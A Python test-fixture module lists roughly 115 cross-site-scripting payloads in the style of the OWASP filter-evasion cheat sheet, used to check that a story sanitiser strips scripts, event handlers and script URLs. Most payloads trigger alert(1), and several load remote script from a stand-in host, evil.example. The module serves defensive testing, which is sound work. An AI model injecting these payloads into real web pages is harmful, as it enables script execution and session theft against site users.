"""XSS payloads in the spirit of the OWASP XSS filter-evasion cheat sheet.

Written for Federkiel's tests: each payload tries to run `alert(1)` (or to load a
script) when its HTML reaches a browser. The Python tests assert that what the
sanitiser stores has no script, no event handler and no script URL; a browser test
can render a story made of them and assert that nothing ran.

`PAYLOADS` is a list of (name, payload); `all_payloads_text()` joins them into one
story text.
"""

from __future__ import annotations

PAYLOADS: list[tuple[str, str]] = [
    # Script tags in many spellings
    ("script plain", "<script>alert(1)</script>"),
    ("script upper case", "<SCRIPT>alert(1)</SCRIPT>"),
    ("script mixed case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("script with src", '<script src="http://evil.example/x.js"></script>'),
    ("script src no quotes", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    ("script no closing tag", "<script src=//evil.example/x.js?<b>"),
    ("script slash attribute", '<SCRIPT/XSS SRC="http://evil.example/x.js"></SCRIPT>'),
    ("script nested to survive stripping", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script extra open bracket", "<<SCRIPT>alert(1);//<</SCRIPT>"),
    ("script in attribute breakout", '"><script>alert(1)</script>'),
    ("script half open", "<SCRIPT SRC=http://evil.example/x.js?< B >"),
    ("script with type module", '<script type="module">alert(1)</script>'),
    ("script in title breakout", "</TITLE><SCRIPT>alert(1);</SCRIPT>"),
    ("script in textarea breakout", "</textarea><script>alert(1)</script>"),
    ("script after comment", "<!--<script>--><script>alert(1)</script>"),
    ("conditional comment", "<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->"),
    ("cdata wrapped script", "<![CDATA[<script>alert(1)</script>]]>"),
    # Event handlers
    ("img onerror", "<img src=x onerror=alert(1)>"),
    ("img onerror quoted", '<img src="x" onerror="alert(1)">'),
    ("img onerror backticks", "<IMG SRC=x onerror=`alert(1)`>"),
    ("img onerror upper case", "<IMG SRC=# ONERROR=alert(1)>"),
    ("img onerror entity-encoded", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;1&#41;>"),
    ("img onerror slash separated", "<img/src=x/onerror=alert(1)>"),
    ("img onerror newline separated", "<img\nsrc=x\nonerror=alert(1)>"),
    ("img onload", '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="alert(1)">'),
    ("body onload", "<BODY ONLOAD=alert(1)>"),
    ("svg onload", "<svg onload=alert(1)>"),
    ("svg slash onload", "<svg/onload=alert(1)>"),
    ("div onmouseover", '<div onmouseover="alert(1)" style="width:100%;height:100%">x</div>'),
    ("a onclick", '<a href="#" onclick="alert(1)">click</a>'),
    ("input autofocus onfocus", "<input autofocus onfocus=alert(1)>"),
    ("details ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>"),
    ("video source onerror", "<video><source onerror=alert(1)></video>"),
    ("audio onerror", "<audio src=x onerror=alert(1)>"),
    ("marquee onstart", "<marquee onstart=alert(1)>x</marquee>"),
    ("select onfocus", "<select autofocus onfocus=alert(1)></select>"),
    (
        "table background handler",
        "<table background=x onerror=alert(1)><tr><td>x</td></tr></table>",
    ),
    ("p with quoted-close handler", '<p title="x" onpointerenter="alert(1)">x</p>'),
    ("unknown element handler", "<x onclick=alert(1)>click</x>"),
    # Script URLs
    ("a javascript href", '<a href="javascript:alert(1)">x</a>'),
    ("a javascript upper case", '<a href="JaVaScRiPt:alert(1)">x</a>'),
    ("a javascript no quotes", "<a href=javascript:alert(1)>x</a>"),
    (
        "a javascript decimal entities",
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    ),
    (
        "a javascript padded decimal entities",
        '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
        '&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
    ),
    (
        "a javascript hex entities",
        '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;'
        'alert(1)">x</a>',
    ),
    ("a javascript tab inside", '<a href="jav\tascript:alert(1)">x</a>'),
    ("a javascript encoded tab", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
    ("a javascript encoded newline", '<a href="jav&#x0A;ascript:alert(1)">x</a>'),
    ("a javascript encoded carriage return", '<a href="jav&#x0D;ascript:alert(1)">x</a>'),
    ("a javascript leading spaces and meta chars", '<a href=" &#14;  javascript:alert(1)">x</a>'),
    ("a javascript named entity colon", '<a href="javascript&colon;alert(1)">x</a>'),
    ("a vbscript href", '<a href="vbscript:msgbox(1)">x</a>'),
    (
        "a data html href",
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    ),
    ("a data url plain", '<a href="data:text/html,<script>alert(1)</script>">x</a>'),
    ("img javascript src", '<IMG SRC="javascript:alert(1);">'),
    ("img javascript src no quotes", "<IMG SRC=javascript:alert(1)>"),
    ("img vbscript src", "<IMG SRC='vbscript:msgbox(1)'>"),
    ("img livescript src", '<IMG SRC="livescript:[code]">'),
    ("img dynsrc", '<IMG DYNSRC="javascript:alert(1)">'),
    ("img lowsrc", '<IMG LOWSRC="javascript:alert(1)">'),
    ("form action javascript", '<form action="javascript:alert(1)"><button>x</button></form>'),
    ("button formaction", '<button formaction="javascript:alert(1)">x</button>'),
    ("blockquote cite javascript", '<blockquote cite="javascript:alert(1)">x</blockquote>'),
    ("q cite javascript", '<q cite="javascript:alert(1)">x</q>'),
    ("markdown link javascript", "[click me](javascript:alert(1))"),
    ("markdown link entity javascript", "[click me](&#106;avascript:alert(1))"),
    ("markdown image javascript", "![x](javascript:alert(1))"),
    ("markdown autolink javascript", "<javascript:alert(1)>"),
    ("markdown reference link javascript", "[x][r]\n\n[r]: javascript:alert(1)"),
    ("markdown link data url", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    # SVG and MathML
    ("svg script", "<svg><script>alert(1)</script></svg>"),
    (
        "svg animate href",
        '<svg><a><animate attributeName="href" values="javascript:alert(1)"/>'
        "<text x=20 y=20>x</text></a></svg>",
    ),
    ("svg use data", '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>'),
    (
        "svg foreignObject",
        "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    ),
    ("svg xlink href", '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>'),
    ("math href", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'),
    (
        "math maction",
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">'
        "x</maction></math>",
    ),
    ("math style breakout mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("svg style breakout mxss", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
    ("noscript breakout mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    # Styles
    ("style tag expression", "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(1)';</STYLE>"),
    ("style attribute expression", '<div style="width: expression(alert(1));">x</div>'),
    (
        "style attribute url javascript",
        '<div style="background-image: url(javascript:alert(1))">x</div>',
    ),
    ("style attribute commented expression", '<IMG STYLE="xss:expr/*XSS*/ession(alert(1))">'),
    ("style tag with behaviour", "<style>body{behavior:url(x.htc)}</style>"),
    ("link stylesheet javascript", '<LINK REL="stylesheet" HREF="javascript:alert(1);">'),
    ("style moz binding", '<div style="-moz-binding:url(//evil.example/x.xml#xss)">x</div>'),
    # Meta, base, frames, objects
    ("meta refresh javascript", '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">'),
    (
        "meta refresh data",
        '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,'
        'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">',
    ),
    ("base href javascript", '<BASE HREF="javascript:alert(1);//">'),
    ("iframe javascript", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("frameset", '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>'),
    ("object data", '<object data="javascript:alert(1)"></object>'),
    ("object type html", '<OBJECT TYPE="text/x-scriptlet" DATA="//evil.example/x.html"></OBJECT>'),
    ("embed src", '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'),
    ("applet", '<applet code="x.class" codebase="//evil.example/"></applet>'),
    ("portal or unknown with src", '<portal src="javascript:alert(1)"></portal>'),
    # Malformed and obfuscated tags
    ("malformed img quotes", '<IMG """><SCRIPT>alert(1)</SCRIPT>">'),
    ("null byte in tag", "<scr\x00ipt>alert(1)</scr\x00ipt>"),
    ("null byte in javascript url", '<a href="java\x00script:alert(1)">x</a>'),
    ("non-alpha non-digit", "<SCRIPT/SRC=//evil.example/x.js></SCRIPT>"),
    ("unclosed img", '<IMG SRC="javascript:alert(1)"'),
    ("double open angle", "<<img src=x onerror=alert(1)//<"),
    ("end title then script", "</title><img src=x onerror=alert(1)>"),
    ("attribute without quotes closing", "<a href=x title=x onclick=alert(1)//>x</a>"),
    ("html entities in tag name", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("template element", "<template><script>alert(1)</script></template>"),
    (
        "xml namespace",
        '<html xmlns:xss><?import namespace="xss" implementation="//x/x.htc">'
        "<xss:xss>x</xss:xss></html>",
    ),
    ("php style tag", "<? echo('<SCR)';echo('IPT>alert(1)</SCRIPT>'); ?>"),
    ("isindex action", "<isindex type=image src=1 onerror=alert(1)>"),
    ("markdown raw html block", "Text\n\n<div>\n<script>alert(1)</script>\n</div>\n"),
    ("markdown inline html handler", "Hello <span onmouseover=alert(1)>there</span> *you*"),
    ("markdown code fence is inert", "```html\n<script>alert(1)</script>\n```"),
]


def all_payloads_text() -> str:
    """Every payload in one HTML text, each in its own paragraph."""
    return "\n".join(f"<p>{name}:</p>\n{payload}\n" for name, payload in PAYLOADS)
